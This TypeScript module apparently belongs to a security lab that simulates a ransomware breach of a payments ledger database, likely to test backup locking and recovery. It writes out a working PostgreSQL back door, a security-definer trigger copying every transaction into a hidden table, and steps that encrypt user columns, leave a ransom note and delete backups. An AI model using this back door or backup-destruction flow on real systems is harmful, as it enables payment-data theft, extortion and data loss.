/**
 * Somebody is in: the host that Payymo is deployed from was taken over, and with it every password and key that lay there. They make
 * a way back for themselves, encrypt what they find, leave a note, and delete the backups that their keys reach.
 */
import { activeSite } from '../clusters.js';
import { layoutOf } from '../layout.js';
import { BACKUP_BUCKET } from '../parts/s3.js';
import type { LabState } from '../state.js';
import { asLogin, destroyBackups, type Intrusion, intrude } from './intruder.js';

export interface Breach extends Intrusion {
  readonly deletedObjects: number;
  /** Versions in the other region that nobody can delete before their time. */
  readonly lockedObjects: number;
}

const ROLE = 'ledger_maintenance';

/** A function with its owner's rights, and a trigger that carries every payment out. */
const BACK_DOOR = `
drop trigger if exists settle on ledger.transactions;
drop function if exists ledger.settle();
drop table if exists ledger.settlement_cache;
create table ledger.settlement_cache (seq bigint, amount_cents bigint, memo text);
create function ledger.settle() returns trigger language plpgsql security definer as $$
begin
  insert into ledger.settlement_cache values (new.seq, new.amount_cents, new.memo);
  return new;
end $$;
create trigger settle after insert on ledger.transactions for each row execute function ledger.settle();
`;

const LEFT = [
  `role ${ROLE}`,
  'extension dblink',
  'function ledger.settle()',
  'trigger ledger.transactions.settle',
  'table public.read_me',
] as const;

/**
 * @param state a lab that is up
 * @throws LabError when the database does not let the stolen login in
 */
export async function breakIn(state: LabState): Promise<Breach> {
  const { database, admin, deploy, sites } = state.ledger;
  const { address, port } = sites[await activeSite(layoutOf(state.dir))];
  const server = { address, port, database };
  const intrusion = await intrude(state, {
    ...{ server, admin, role: ROLE, backDoorSql: BACK_DOOR, left: LEFT },
    encrypted: { table: 'ledger.users', columns: ['email', 'display_name'] },
  });
  // The deploying login is theirs as well; it shows nothing that a deployment would not.
  await asLogin(server, deploy, (client) => client.query('select count(*) from ledger.users'));
  const { deleted } = await destroyBackups(state, 'west', BACKUP_BUCKET);
  const { refused } = await destroyBackups(state, 'east', BACKUP_BUCKET);
  return { ...intrusion, deletedObjects: deleted, lockedObjects: refused };
}
